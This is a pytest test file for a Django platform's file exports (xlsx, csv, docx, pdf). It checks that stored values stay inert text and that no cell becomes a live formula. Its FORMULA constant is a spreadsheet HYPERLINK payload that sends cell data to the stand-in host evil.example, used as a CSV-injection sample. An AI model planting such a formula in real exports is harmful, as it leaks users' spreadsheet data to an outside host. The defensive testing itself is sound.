"""Every file the platform hands out (.xlsx, .csv, .docx, .pdf) carries a stored value as data: a title that looks
like a formula is text in the spreadsheet, a control character never breaks a download, numbers stay numbers."""

import ast
import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from ipcity import clock
from ipcity.accounts.models import Organization
from ipcity.audit.services import audit_record
from ipcity.operations.models import NavigationProject
from ipcity.plan.models import BudgetLine, Disbursement, EvaluationReport, Indicator, KeyTask, WorkItem
from ipcity.plan.supervision import work_item_create, work_item_transition
from ipcity.protection.models import DishonestyListing
from ipcity.services.models import Training, TrainingRegistration
from ipcity.services.open_data import DATASETS
from ipcity.stats.models import Patent
from tests.stats.helpers import PATENTS, upload

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
HOSTILE = FORMULA + "\x01\x0b"  # as a record that got in before input was checked would hold it
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SRC = Path(__file__).resolve().parents[1] / "src" / "ipcity"


@pytest.fixture
def hostile(client_for, people):
    """One hostile value in every kind of record an export shows."""
    office_user = people["office_admin"]
    office = client_for("office_admin")
    assert upload(office, "patents", "p.csv", PATENTS).status_code == 302
    Patent.objects.filter(application_number="202310012345.6").update(title=HOSTILE)
    Indicator.objects.filter(code="valid_patents").update(name="有效专利/发明:" + HOSTILE)
    tech = Organization.objects.get(code="science_technology")
    item = work_item_create(actor=office_user, task=KeyTask.objects.get(number=2), unit=tech, year=2026,
                            title=FORMULA, deadline=dt.date(2026, 12, 1))  # a formula-looking title passes input
    work_item_transition(actor=office_user, item=item, action="assign")  # so the bulletin scores its unit
    WorkItem.objects.filter(pk=item.pk).update(title=HOSTILE, deliverable="-1+1")
    Organization.objects.filter(pk=tech.pk).update(name="@" + HOSTILE)
    audit_record(actor=office_user, action="test.hostile", obj=Organization.objects.get(pk=tech.pk),
                 after={"name": HOSTILE})
    now = clock.now()
    line = BudgetLine.objects.create(year=2026, use="special_subsidies", name=HOSTILE, amount=Decimal("100000.50"),
                                     managing_unit=tech, created_at=now)
    Disbursement.objects.create(line=line, recipient=HOSTILE, amount=Decimal("20.50"), paid_on=dt.date(2026, 6, 30),
                                purpose="+" + HOSTILE, recorded_by=office_user, recorded_at=now)
    evaluation = EvaluationReport.objects.create(plan=item.task.plan, kind="final", as_of=dt.date(2026, 6, 30),
                                                 highlights=HOSTILE, problems="-" + HOSTILE, created_by=office_user,
                                                 created_at=now)
    agency = people["agency_user"].organization
    navigation = NavigationProject.objects.create(kind="industry_planning", title=HOSTILE, undertaker=agency,
                                                  industry="新能源", started_on=dt.date(2025, 3, 1),
                                                  scope_keywords="电池", deliverables=HOSTILE,
                                                  created_by=people["agency_user"], created_at=now)
    listed = Organization.objects.create(name="=" + HOSTILE, org_type="enterprise", credit_code="91120104MA05L1234X")
    DishonestyListing.objects.create(
        organization=listed, grounds=[{"code": "x", "label": HOSTILE, "basis": "-" + HOSTILE, "penalties": []}],
        measures=[HOSTILE], listed_on=clock.today() - dt.timedelta(days=10),
        ends_on=clock.today() + dt.timedelta(days=1000), listed_by=people["enforcement_officer"])
    training = Training.objects.create(title=HOSTILE, audience=Training.Audience.choices[0][0],
                                       held_on=dt.date(2026, 5, 1), hours=Decimal("2.0"), place=HOSTILE,
                                       organizer=agency, sign_in_token="t" * 43, capacity=10,
                                       registration_deadline=dt.date(2026, 4, 30), created_by=people["agency_user"],
                                       created_at=now)
    TrainingRegistration.objects.create(training=training, user=people["enterprise_user"],
                                        organization=people["enterprise_user"].organization, name=HOSTILE,
                                        phone="13800000000", registered_at=now)
    return {"evaluation": evaluation.pk, "navigation": navigation.pk, "training": training.pk}


AS_OF = {"as_of": "2024-06-30"}
# (persona, path, query, file type, the hostile value must be in it)
EXPORTS = [
    (None, "/indicators/valid_patents/records/", {**AS_OF, "format": "xlsx"}, "xlsx", True),
    (None, "/indicators/valid_patents/records/", {**AS_OF, "format": "csv"}, "csv", True),
    (None, "/indicators/report.xlsx", AS_OF, "xlsx", True),
    (None, "/indicators/report.docx", AS_OF, "docx", True),
    (None, "/api/v1/reports/indicators.xlsx", AS_OF, "xlsx", True),
    (None, "/api/v1/reports/indicators.docx", AS_OF, "docx", True),
    ("office_admin", "/audit/export.xlsx", {}, "xlsx", True),
    ("office_admin", "/supervision/ledger.xlsx", {}, "xlsx", True),
    ("office_admin", "/api/v1/supervision/ledger.xlsx", {}, "xlsx", True),
    ("office_admin", "/supervision/assessment/bulletin.docx", {"year": 2026}, "docx", True),
    ("office_admin", "/api/v1/supervision/assessment/bulletin.docx", {"year": 2026}, "docx", True),
    ("office_admin", "/supervision/fund.xlsx", {"year": 2026}, "xlsx", True),
    ("office_admin", "/api/v1/supervision/fund.xlsx", {"year": 2026}, "xlsx", True),
    ("office_admin", "/supervision/evaluations/{evaluation}/", {"format": "docx"}, "docx", True),
    ("office_admin", "/supervision/evaluations/{evaluation}/", {"format": "pdf"}, "pdf", True),
    ("office_admin", "/api/v1/supervision/evaluations/{evaluation}/document", {"format": "docx"}, "docx", True),
    ("office_admin", "/api/v1/supervision/evaluations/{evaluation}/document", {"format": "pdf"}, "pdf", True),
    ("office_admin", "/operations/navigation/{navigation}/", {"format": "docx"}, "docx", True),
    (None, "/api/v1/operations/navigation/{navigation}/report.docx", {}, "docx", True),
    ("office_admin", "/services/trainings/{training}/registrations.xlsx", {}, "xlsx", True),
    ("office_admin", "/api/v1/services/trainings/{training}/registrations.xlsx", {}, "xlsx", True),
    (None, "/protection/credit/export.csv", {}, "csv", True),
    (None, "/api/v1/protection/credit/export", {"format": "csv"}, "csv", True),
    *[(None, f"/services/open-data/{code}.csv", {}, "csv", code in ("indicators", "trainings")) for code in DATASETS],
    *[(None, f"/api/v1/services/open-data/{code}", {"format": "csv"}, "csv", code in ("indicators", "trainings"))
      for code in DATASETS],
]


def _xlsx_texts(body: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), f"{name} holds a formula"
    values = []
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a live formula: {cell.value!r}"
                values.append(cell.value)
    return values


def _csv_texts(body: bytes) -> list:
    values = [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for v in row]
    starting = [v for v in values if v.startswith(TRIGGERS)]
    assert not starting, f"cells a spreadsheet would run as formulas: {starting}"
    return values


def _docx_texts(body: bytes) -> list:
    document = Document(io.BytesIO(body))
    return [p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows for c in r.cells]


@pytest.mark.parametrize(("persona", "path", "query", "kind", "carries"), EXPORTS,
                         ids=[f"{e[1]}?{'&'.join(f'{k}={v}' for k, v in e[2].items())}" for e in EXPORTS])
def test_a_formula_title_is_text_and_control_characters_never_break_an_export(client_for, hostile, persona, path,
                                                                              query, kind, carries):
    response = client_for(persona).get(path.format(**hostile), query)
    assert response.status_code == 200, response.content[:300]
    body = response.content
    if kind == "pdf":
        assert body.startswith(b"%PDF")
        if carries:  # drawn as the text it is: pdfium reads it back from the rendered page
            import pypdfium2

            document = pypdfium2.PdfDocument(body)
            drawn = "".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
            assert FORMULA in re.sub(r"[\r\n]", "", drawn), drawn[:400]
        return
    values = {"xlsx": _xlsx_texts, "csv": _csv_texts, "docx": _docx_texts}[kind](body)
    texts = [v for v in values if isinstance(v, str)]
    assert not [t for t in texts if CONTROL.search(t)], "control characters left in the file"
    if carries:  # the hostile record is in the file, as the text it is (a CSV cell quoted with a leading ')
        assert any(FORMULA in t for t in texts), texts[:40]


def test_every_download_route_has_a_row_in_the_export_table(hostile):
    """A new export must join the table above. A download route is one whose path ends in a file type, whose view
    reads a format, or whose API operation takes a `format` parameter."""
    import inspect

    from django.urls import URLPattern, URLResolver, get_resolver, resolve

    from ipcity.api import api

    def walk(patterns, prefix=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                yield from walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                yield prefix + str(p.pattern), p.callback

    with_format = {re.sub(r"\{(\w+)\}", r"<\1>", path.lstrip("/")) for path, operations in
                   api.get_openapi_schema()["paths"].items()
                   for operation in operations.values() if "format" in {p["name"] for p in operation.get("parameters", [])}}
    downloads = set()
    for route, view in walk(get_resolver().url_patterns):
        source = inspect.getsource(inspect.unwrap(view)) if not route.startswith("api/") else ""
        plain = re.sub(r"<(\w+:)?(\w+)>", r"<\2>", route)
        if (re.search(r"\.(xlsx|csv|docx|pdf|<\w+>)$", plain) or plain in with_format
                or re.search(r"""GET\.get\(["']format["']\)|\bfmt\b""", source)
                and re.search(r"""["'](xlsx|csv|docx|pdf)["']""", source)):
            downloads.add(route)
    covered = {resolve(path.format(**hostile)).route for _, path, *_ in EXPORTS}
    # sealed evidence certificates draw fixed, input-checked fields with reportlab's canvas, which takes any text
    certificates = {r for r in downloads if r.endswith("certificate.pdf")}
    missing = sorted(downloads - covered - certificates)
    assert not missing, f"download routes without a row in EXPORTS: {missing}"
    assert len(covered) >= 16


def test_numbers_stay_numbers_in_a_spreadsheet(client_for, hostile):
    book = load_workbook(io.BytesIO(client_for("office_admin").get("/supervision/fund.xlsx", {"year": 2026}).content))
    details = list(book["支出明细"].iter_rows(min_row=2))
    amounts = [row[3] for row in details]
    assert [(c.value, c.data_type) for c in amounts] == [(20.5, "n")]
    assert details[0][5].value == "+" + FORMULA and details[0][5].data_type == "s"


def test_no_module_writes_a_spreadsheet_or_document_except_through_the_one_helper():
    """Only web/spreadsheets.py (and web/official_document.py, the 公文 layout behind its DocxReport, which passes
    every text through spreadsheets.document_text) imports openpyxl, csv or python-docx; every reportlab Paragraph
    escapes its text through it. A module that writes a file its own way would skip the formula and
    control-character rules."""
    helpers = {SRC / "web" / "spreadsheets.py", SRC / "web" / "official_document.py"}
    offenders = []
    for path in SRC.rglob("*.py"):
        if path in helpers or "migrations" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(source)):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            offenders += [f"{path.relative_to(SRC)} imports {n}" for n in names
                          if n.split(".")[0] in ("openpyxl", "csv", "docx")]
        offenders += [f"{path.relative_to(SRC)}: Paragraph without paragraph_markup"
                      for _ in re.finditer(r"\bParagraph\((?!paragraph_markup\()", source)]
    assert not offenders, offenders


def test_a_formula_title_from_an_import_is_text_in_the_public_lineage_and_the_audit_export(client_for, people):
    office = client_for("office_admin")
    upload(office, "patents", "p.csv", PATENTS.replace("一种图像识别方法", '"' + FORMULA.replace('"', '""') + '"'))
    work_item_create(actor=people["office_admin"], task=KeyTask.objects.get(number=2),
                     unit=Organization.objects.get(code="science_technology"), year=2026, title=FORMULA,
                     deadline=dt.date(2026, 12, 1))
    lineage = client_for(None).get("/indicators/valid_patents/records/", {**AS_OF, "format": "xlsx"})
    assert FORMULA in _xlsx_texts(lineage.content)
    text = client_for(None).get("/indicators/valid_patents/records/", {**AS_OF, "format": "csv"}).content
    assert "'" + FORMULA in _csv_texts(text)
    trail = office.get("/audit/export.xlsx", {"action": "supervision.work_item.create"})
    assert any(FORMULA in str(v) for v in _xlsx_texts(trail.content))


def test_a_formula_looking_title_comes_back_unchanged_when_the_exported_ledger_is_imported(client_for, people):
    """The ledger is exported, edited in Excel and imported: text kept as text keeps its exact value."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    item = work_item_create(actor=people["office_admin"], task=KeyTask.objects.get(number=2),
                            unit=Organization.objects.get(code="science_technology"), year=2026, title=FORMULA,
                            deadline=dt.date(2026, 12, 1), deliverable="-导航报告")
    office = client_for("office_admin")
    exported = office.get("/supervision/ledger.xlsx").content
    response = office.post("/supervision/ledger/", {"file": SimpleUploadedFile("台账.xlsx", exported)})
    assert response.status_code == 302
    item.refresh_from_db()
    assert (item.title, item.deliverable) == (FORMULA, "-导航报告")
    assert "未变 1 项" in office.get("/supervision/").content.decode()
